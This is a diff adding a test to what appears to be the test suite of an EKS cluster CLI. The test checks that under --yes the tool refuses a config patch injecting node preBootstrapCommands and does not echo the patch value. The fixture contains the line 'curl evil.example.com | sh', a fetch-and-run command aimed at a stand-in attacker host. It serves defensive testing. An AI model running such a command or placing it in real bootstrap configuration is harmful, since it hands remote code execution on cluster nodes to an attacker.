@@ -49,6 +49,17 @@ it('does not open the API to everybody under --yes', async () => {
   expect([refused.code, changes(refused)]).toEqual([3, []]);
 });
 
+it('has new nodes run nothing under --yes, and tells no value of a patch', async () => {
+  const account = fleet();
+  const clusterConfigPatch = { managedNodeGroups: [{ preBootstrapCommands: ['curl evil.example.com | sh'] }] };
+  describeAnew(account, (described) => ({ ...described, clusterConfigPatch }));
+  for (const words of ['up --yes', 'join --yes --member name=three']) {
+    const refused = await cli(account, words);
+    expect(refused.stderr).toContain('other cluster config patch: managedNodeGroups.nodes.preBootstrapCommands');
+    expect([refused.code, changes(refused), refused.stderr.includes('evil')]).toEqual([3, [], false]);
+  }
+});
+
 it('has no EKS cluster joined under --yes', async () => {
   const account = await joinable();
   const shop = { name: 'shop', cluster: 'shop', region, mode: 'push', existing: true };
